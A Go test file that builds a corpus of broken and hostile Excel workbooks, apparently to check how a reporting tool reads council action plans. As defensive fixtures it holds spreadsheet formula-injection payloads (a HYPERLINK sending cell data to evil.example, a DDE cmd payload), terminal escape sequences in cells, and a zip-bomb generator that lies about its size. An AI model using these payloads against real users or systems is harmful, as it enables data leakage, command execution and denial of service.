package main

import (
	"archive/zip"
	"bytes"
	"compress/flate"
	"context"
	"fmt"
	"hash/crc32"
	"io"
	"math/rand/v2"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"testing/cryptotest"
	"time"

	"github.com/xuri/excelize/v2"
)

// badInputDir is the corpus of broken and hostile workbooks (issue 5). Its
// README lists every file and what papers does with it. The files are made
// by TestMakeBadInputCorpus -update, and committed.
var badInputDir = filepath.Join("..", "..", "testdata", "bad-input")

// planSheet is the sample statements' sheet and its columns.
const planSheet = "Position Statement"

var planHeader = []any{"Recommendation", "Action", "Lead Owner (s)", "Start date / Completion date", "Update"}

// planRow is one row of a plan below the header: a recommendation (only on
// its first action's row), an action, its lead owner, its dates and the
// officer's update.
type planRow struct{ rec, action, owner, when, update string }

// ordinaryPlan is a small plan in the samples' words, that each hostile
// workbook puts its hostile content into.
func ordinaryPlan() []planRow {
	return []planRow{
		{"Recommendation One: Develop across the council a compelling and ambitious vision for all children in the city.",
			"Develop an ambitious vision for children and young people in Southampton;", "Robert Henderson",
			"Start: Sept 20 Completed by: December 20", "Vision statements have been drafted and consultation with staff is underway."},
		{"", "Embed outcomes for children and young people into all departmental business plans;", "Sandy Hopkins",
			"Build into 21/22 business planning cycle", "Ongoing work in progress."},
		{"Recommendation Two: Promote an inclusive culture which connects senior management with practice.",
			"Co-design an effective communication strategy with managers, front line staff and partners;", "Robert Henderson",
			"Start: Sept 20 Completed by: Mar 21", "A named communications lead has been allocated."},
		{"", "Relaunch the regular staff conference, co-designed with front-line practitioners;", "John Harrison",
			"By 30th Dec 20", "Date agreed with the Principal Social Worker."},
	}
}

// planBook writes a plan as the samples lay it out: the title in A1, the
// header in row 3, the actions below, wrapped text.
func planBook(t testing.TB, title string, rows []planRow) *excelize.File {
	t.Helper()
	f := excelize.NewFile()
	t.Cleanup(func() { f.Close() })
	must(t, f.SetSheetName("Sheet1", planSheet))
	must(t, f.SetCellValue(planSheet, "A1", title))
	must(t, f.SetSheetRow(planSheet, "A3", &planHeader))
	for i, r := range rows {
		row := []any{r.rec, r.action, r.owner, r.when, r.update}
		must(t, f.SetSheetRow(planSheet, "A"+strconv.Itoa(4+i), &row))
	}
	for col, w := range map[string]float64{"A": 34, "B": 60, "C": 20, "D": 22, "E": 70} {
		must(t, f.SetColWidth(planSheet, col, col, w))
	}
	head, err := f.NewStyle(&excelize.Style{Font: &excelize.Font{Bold: true}, Alignment: &excelize.Alignment{WrapText: true}})
	must(t, err)
	body, err := f.NewStyle(&excelize.Style{Alignment: &excelize.Alignment{WrapText: true, Vertical: "top"}})
	must(t, err)
	must(t, f.SetCellStyle(planSheet, "A3", "E3", head))
	if len(rows) > 0 {
		must(t, f.SetCellStyle(planSheet, "A4", "E"+strconv.Itoa(3+len(rows)), body))
	}
	return f
}

func must(t testing.TB, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}

// xlsxBytes is f saved as .xlsx.
func xlsxBytes(t testing.TB, f *excelize.File) []byte {
	t.Helper()
	b, err := f.WriteToBuffer()
	must(t, err)
	return bytes.Clone(b.Bytes())
}

// The hostile texts the readable workbooks hold, which the tests look for
// in the report.
const (
	welshAction  = "Datblygu gweledigaeth uchelgeisiol i blant a phobl ifanc: Gŵyl Dewi, ŷd, Ŵyn, Ŷ"
	welshOwner   = "Siân Llŷr"
	arabicUpdate = "تحديث: تمت مراجعة الخطة مع الشركاء"
	hebrewUpdate = "עדכון: התוכנית נבדקה עם השותפים"
	emojiUpdate  = "Done ✅ 👍🏽 thanks to the team 🎉 Cymru 🏴\U000E0067\U000E0062\U000E0077\U000E006C\U000E0073\U000E007F"
	cjkUpdate    = "Translated summary 行动计划 (Chinese) and 행동 계획 (Korean)"

	longStart = "LONG-CELL-START The officer pasted the whole board report into this cell."
	longEnd   = "LONG-CELL-END"
	maxCell   = 32767 // Excel's most characters in a cell

	bellText     = "Update\x07 with a bell, a tab\there, an escape \x1b[31mred\x1b[0m and a form feed\x0c."
	controlsText = "Zero\u200bwidth, bidi \u202Eoverride\u202C, NEL\u0085line, C1 \u0092quote, DEL\x7f, CRLF\r\nline, CR\rline."
)

// formulaTexts look like formulas but are text typed by an officer (or
// pasted by an attacker): they must reach the report as they are, as text.
var formulaTexts = []string{
	`=HYPERLINK("http://evil.example/?d="&A1,"Click for the update")`,
	"+1 more social worker to recruit",
	"-2 posts still vacant",
	"@SUM(A1:A10)",
	`=cmd|' /C calc'!A0`,
	"=1+1",
}

// impossibleDates are targets no calendar has; each is kept as text and
// warned about with its cell.
var impossibleDates = []string{"31/02/21", "By 32nd Dec 20", "30th Feb 2021", "Completed by: 29/02/2021"}

// longText is exactly n characters, starting with longStart and ending with
// longEnd.
func longText(n int) string {
	var b strings.Builder
	b.WriteString(longStart)
	filler := " Caseloads were reviewed, supervision was audited and the findings were shared with the Practitioners' Improvement Board."
	for b.Len()+len(filler)+1+len(longEnd) <= n {
		b.WriteString(filler)
	}
	b.WriteString(strings.Repeat(".", n-b.Len()-1-len(longEnd)))
	b.WriteString(" " + longEnd)
	return b.String()
}

// badInput is one file of the corpus: how to make it, and whether papers
// can read it.
type badInput struct {
	name     string
	readable bool
	make     func(t *testing.T) []byte
}

// badInputs is the corpus, in the README's order. rows-100000.xlsx is not in
// it: at nearly 3 MB it is made at test time (manyRowsBook).
var badInputs = []badInput{
	{"truncated.xlsx", false, func(t *testing.T) []byte {
		b := xlsxBytes(t, planBook(t, "Position Statement: October 2020", ordinaryPlan()))
		return b[:len(b)/2]
	}},
	{"not-a-zip.xlsx", false, func(t *testing.T) []byte {
		b := make([]byte, 4096)
		rand.NewChaCha8([32]byte{5}).Read(b)
		b[0], b[1] = 0x13, 0x37 // never "PK" by chance
		return b
	}},
	{"csv-renamed.xlsx", false, func(t *testing.T) []byte {
		// Excel's "CSV UTF-8" starts with a byte order mark.
		var b strings.Builder
		b.WriteString("\uFEFFRecommendation,Action,Lead Owner (s),Start date / Completion date,Update\r\n")
		for _, r := range ordinaryPlan() {
			b.WriteString(strings.Join([]string{csvField(r.rec), csvField(r.action), csvField(r.owner), csvField(r.when), csvField(r.update)}, ",") + "\r\n")
		}
		return []byte(b.String())
	}},
	{"legacy.xls", false, nil}, // made by LibreOffice: see legacyXLS
	{"zero-byte.xlsx", false, func(t *testing.T) []byte { return []byte{} }},
	{"no-sheet-content.xlsx", false, func(t *testing.T) []byte {
		// Two sheets, formatted and sized, with no value in any cell.
		f := excelize.NewFile()
		t.Cleanup(func() { f.Close() })
		must(t, f.SetSheetName("Sheet1", planSheet))
		_, err := f.NewSheet("Lead Owners")
		must(t, err)
		st, err := f.NewStyle(&excelize.Style{Alignment: &excelize.Alignment{WrapText: true}, Border: []excelize.Border{{Type: "bottom", Color: "000000", Style: 1}}})
		must(t, err)
		must(t, f.SetCellStyle(planSheet, "A1", "E40", st))
		must(t, f.SetColWidth(planSheet, "A", "E", 30))
		return xlsxBytes(t, f)
	}},
	{"no-header.xlsx", false, func(t *testing.T) []byte {
		// The budget monitoring workbook, sent by mistake.
		f := excelize.NewFile()
		t.Cleanup(func() { f.Close() })
		must(t, f.SetSheetName("Sheet1", "Budget"))
		rows := [][]any{
			{"Children's Services revenue budget monitoring: Period 6"},
			{},
			{"Cost centre", "Budget £000", "Forecast £000", "Variance £000"},
			{"Looked after children", 28450, 31020, 2570},
			{"Fieldwork teams", 9310, 9100, -210},
			{"Safeguarding", 2140, 2190, 50},
		}
		for i, r := range rows {
			must(t, f.SetSheetRow("Budget", "A"+strconv.Itoa(i+1), &r))
		}
		return xlsxBytes(t, f)
	}},
	{"password-protected.xlsx", false, func(t *testing.T) []byte {
		// A real encrypted OOXML package (ECMA-376 agile encryption, as
		// Excel's "Encrypt with Password" writes), password "papers". The
		// salt is random: fix it so the bytes are the same each time.
		cryptotest.SetGlobalRandom(t, 5)
		f := planBook(t, "Position Statement: October 2020", ordinaryPlan())
		var b bytes.Buffer
		_, err := f.WriteTo(&b, excelize.Options{Password: "papers"})
		must(t, err)
		return b.Bytes()
	}},
	{"zip-bomb.xlsx", false, func(t *testing.T) []byte { return zipBomb(t, 1<<30+1, false) }},
	{"zip-bomb-lying.xlsx", false, func(t *testing.T) []byte { return zipBomb(t, 1<<30+1, true) }},
	{"formatted-blank-rows.xlsx", true, func(t *testing.T) []byte {
		// A plan with 100,000 rows below it formatted (borders, wrapping)
		// but empty, as when a whole column is formatted.
		f := planBook(t, "Position Statement: October 2020", ordinaryPlan())
		st, err := f.NewStyle(&excelize.Style{Alignment: &excelize.Alignment{WrapText: true},
			Border: []excelize.Border{{Type: "bottom", Color: "000000", Style: 1}}})
		must(t, err)
		first := 4 + len(ordinaryPlan())
		must(t, f.SetCellStyle(planSheet, "A"+strconv.Itoa(first), "E"+strconv.Itoa(first+100000-1), st))
		return xlsxBytes(t, f)
	}},
	{"long-cells.xlsx", true, func(t *testing.T) []byte {
		rows := ordinaryPlan()
		rows[1].update = longText(maxCell)
		rows[3].action = longText(maxCell)
		return xlsxBytes(t, planBook(t, "Position Statement: October 2020", rows))
	}},
	{"control-chars.xlsx", true, func(t *testing.T) []byte {
		rows := ordinaryPlan()
		rows[0].update = bellText
		rows[1].update = controlsText
		rows[2].owner = "Robert\x00 Henderson\x08"
		rows[3].action = "Relaunch the staff conference\x1b]0;owned\x07 with practitioners;"
		for i := range rows {
			r := &rows[i]
			r.update, r.owner, r.action = excelEscape(r.update), excelEscape(r.owner), excelEscape(r.action)
		}
		b := xlsxBytes(t, planBook(t, excelEscape("Position Statement\x0b October 2020"), rows))
		// excelize keeps a typed "_x0007_" as text ("_x005F_x0007_");
		// Excel's own escape of a control character is "_x0007_".
		return rewritePart(t, b, "xl/sharedStrings.xml", func(x []byte) []byte {
			return bytes.ReplaceAll(x, []byte("_x005F_x"), []byte("_x"))
		})
	}},
	{"formula-text.xlsx", true, func(t *testing.T) []byte {
		rows := ordinaryPlan()
		rows[0].update = formulaTexts[0]
		rows[1].update = formulaTexts[1]
		rows[2].update = formulaTexts[2]
		rows[3].update = formulaTexts[3]
		rows[3].owner = formulaTexts[4]
		rows[1].action = formulaTexts[5]
		return xlsxBytes(t, planBook(t, "Position Statement: October 2020", rows))
	}},
	{"welsh-rtl-emoji.xlsx", true, func(t *testing.T) []byte {
		rows := ordinaryPlan()
		rows[0].action = welshAction
		rows[0].owner = welshOwner
		rows[0].update = arabicUpdate
		rows[1].update = hebrewUpdate
		rows[2].update = emojiUpdate
		rows[3].update = cjkUpdate
		return xlsxBytes(t, planBook(t, "Datganiad Sefyllfa – Position Statement: Hydref 2020", rows))
	}},
	{"impossible-dates.xlsx", true, func(t *testing.T) []byte {
		rows := ordinaryPlan()
		for i, d := range impossibleDates {
			rows[i].when = d
		}
		return xlsxBytes(t, planBook(t, "Position Statement: October 2020", rows))
	}},
}

// excelEscape writes the control characters XML 1.0 cannot hold as Excel
// does in a workbook: BEL is "_x0007_".
func excelEscape(s string) string {
	var b strings.Builder
	for _, r := range s {
		if r < 0x20 && r != '\t' && r != '\n' && r != '\r' {
			fmt.Fprintf(&b, "_x%04X_", r)
			continue
		}
		b.WriteRune(r)
	}
	return b.String()
}

// rewritePart returns the zip package b with one part's bytes changed by fn.
func rewritePart(t *testing.T, b []byte, name string, fn func([]byte) []byte) []byte {
	t.Helper()
	zr, err := zip.NewReader(bytes.NewReader(b), int64(len(b)))
	must(t, err)
	var out bytes.Buffer
	zw := zip.NewWriter(&out)
	for _, f := range zr.File {
		if f.Name != name {
			must(t, zw.Copy(f))
			continue
		}
		rc, err := f.Open()
		must(t, err)
		body, err := io.ReadAll(rc)
		must(t, err)
		w, err := zw.CreateHeader(&zip.FileHeader{Name: f.Name, Method: zip.Deflate})
		must(t, err)
		_, err = w.Write(fn(body))
		must(t, err)
	}
	must(t, zw.Close())
	return out.Bytes()
}

func csvField(s string) string {
	if strings.ContainsAny(s, ",\"\r\n") {
		return `"` + strings.ReplaceAll(s, `"`, `""`) + `"`
	}
	return s
}

// zipBomb is a plan whose sheet inflates to more than size bytes. It is made
// of one compressed chunk of text repeated: DEFLATE blocks that refer only
// to their own chunk can be concatenated. With lying, the zip understates
// the sheet's size (64 KiB), as a crafted bomb does to pass a check of the
// declared sizes.
func zipBomb(t *testing.T, size uint64, lying bool) []byte {
	t.Helper()
	base := xlsxBytes(t, planBook(t, "Position Statement: October 2020", ordinaryPlan()))
	zr, err := zip.NewReader(bytes.NewReader(base), int64(len(base)))
	must(t, err)
	head := []byte(`<?xml version="1.0" encoding="UTF-8" standalone="yes"?>` +
		`<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>` +
		`<row r="3"><c r="A3" t="inlineStr"><is><t>Recommendation</t></is></c><c r="B3" t="inlineStr"><is><t>Action</t></is></c>` +
		`<c r="C3" t="inlineStr"><is><t>Lead Owner (s)</t></is></c><c r="E3" t="inlineStr"><is><t>Update</t></is></c></row>` +
		`<row r="4"><c r="B4" t="inlineStr"><is><t>`)
	tail := []byte(`</t></is></c></row></sheetData></worksheet>`)
	// One action whose text is a gigabyte of one letter: a run of one byte
	// is what DEFLATE packs best (about 1000:1).
	chunk := bytes.Repeat([]byte("a"), 1<<20)
	deflate := func(b []byte, final bool) []byte {
		var out bytes.Buffer
		w, _ := flate.NewWriter(&out, flate.BestCompression)
		w.Write(b)
		if final {
			w.Close()
		} else {
			w.Flush()
		}
		return out.Bytes()
	}
	zchunk := deflate(chunk, false)
	n := size/uint64(len(chunk)) + 1
	var body bytes.Buffer
	body.Write(deflate(head, false))
	crc := crc32.Update(0, crc32.IEEETable, head)
	for range n {
		body.Write(zchunk)
		crc = crc32.Update(crc, crc32.IEEETable, chunk)
	}
	body.Write(deflate(tail, true))
	crc = crc32.Update(crc, crc32.IEEETable, tail)
	declared := uint64(len(head)) + n*uint64(len(chunk)) + uint64(len(tail))
	if lying {
		declared = 64 << 10
	}
	var out bytes.Buffer
	zw := zip.NewWriter(&out)
	for _, f := range zr.File {
		if f.Name == "xl/worksheets/sheet1.xml" {
			w, err := zw.CreateRaw(&zip.FileHeader{Name: f.Name, Method: zip.Deflate, CRC32: crc,
				CompressedSize64: uint64(body.Len()), UncompressedSize64: declared})
			must(t, err)
			w.Write(body.Bytes())
			continue
		}
		must(t, zw.Copy(f))
	}
	must(t, zw.Close())
	return out.Bytes()
}

// manyRowsBook is a plan of n actions, each with its own text, owner, date
// and update: what a report of n actions would have to print. It is
// written with excelize's stream writer, which is quick at this size.
func manyRowsBook(t testing.TB, n int) []byte {
	t.Helper()
	f := excelize.NewFile()
	defer f.Close()
	must(t, f.SetSheetName("Sheet1", planSheet))
	sw, err := f.NewStreamWriter(planSheet)
	must(t, err)
	must(t, sw.SetRow("A1", []any{"Position Statement: October 2020"}))
	must(t, sw.SetRow("A3", planHeader))
	owners := []string{"Robert Henderson", "Sandy Hopkins", "John Harrison", "Cllr Paffey"}
	for i := range n {
		rec := ""
		if i%20 == 0 {
			rec = "Recommendation " + strconv.Itoa(i/20+1) + ": Improve the service, part " + strconv.Itoa(i/20+1) + "."
		}
		row := []any{rec,
			"Action " + strconv.Itoa(i+1) + ": review the caseloads of team " + strconv.Itoa(i%97) + " and report to the board;",
			owners[i%len(owners)], "By 31st Mar 21",
			"Update " + strconv.Itoa(i+1) + ": audit complete, findings shared with the team."}
		must(t, sw.SetRow("A"+strconv.Itoa(4+i), row))
	}
	must(t, sw.Flush())
	return xlsxBytes(t, f)
}

// legacyXLS converts the ordinary plan to Excel 97-2003 with LibreOffice:
// a real BIFF8 workbook in an OLE2 container.
func legacyXLS(t *testing.T) []byte {
	t.Helper()
	needTool(t, "soffice")
	dir := t.TempDir()
	src := filepath.Join(dir, "legacy.xlsx")
	must(t, os.WriteFile(src, xlsxBytes(t, planBook(t, "Position Statement: October 2020", ordinaryPlan())), 0o644))
	ctx, cancel := context.WithTimeout(context.Background(), 3*time.Minute)
	defer cancel()
	cmd := exec.CommandContext(ctx, "soffice", "-env:UserInstallation=file://"+filepath.Join(dir, "profile"),
		"--headless", "--convert-to", "xls", "--outdir", dir, src)
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("soffice: %v\n%s", err, out)
	}
	b, err := os.ReadFile(filepath.Join(dir, "legacy.xls"))
	must(t, err)
	return b
}

// TestMakeBadInputCorpus writes the corpus with -update; without, it checks
// every file is there. The bytes are the same each time (excelize's output
// is, and the encrypted file's salt is fixed) except legacy.xls, which
// LibreOffice stamps: it is rewritten only when missing.
func TestMakeBadInputCorpus(t *testing.T) {
	for _, c := range badInputs {
		path := filepath.Join(badInputDir, c.name)
		if !*updateFixtures {
			if _, err := os.Stat(path); err != nil {
				t.Errorf("%s is missing: run go test ./cmd/papers -run TestMakeBadInputCorpus -update", path)
			}
			continue
		}
		t.Run(c.name, func(t *testing.T) {
			var b []byte
			if c.make != nil {
				b = c.make(t)
			} else if _, err := os.Stat(path); err == nil {
				return
			} else {
				b = legacyXLS(t)
			}
			must(t, os.MkdirAll(badInputDir, 0o755))
			must(t, os.WriteFile(path, b, 0o644))
		})
	}
}
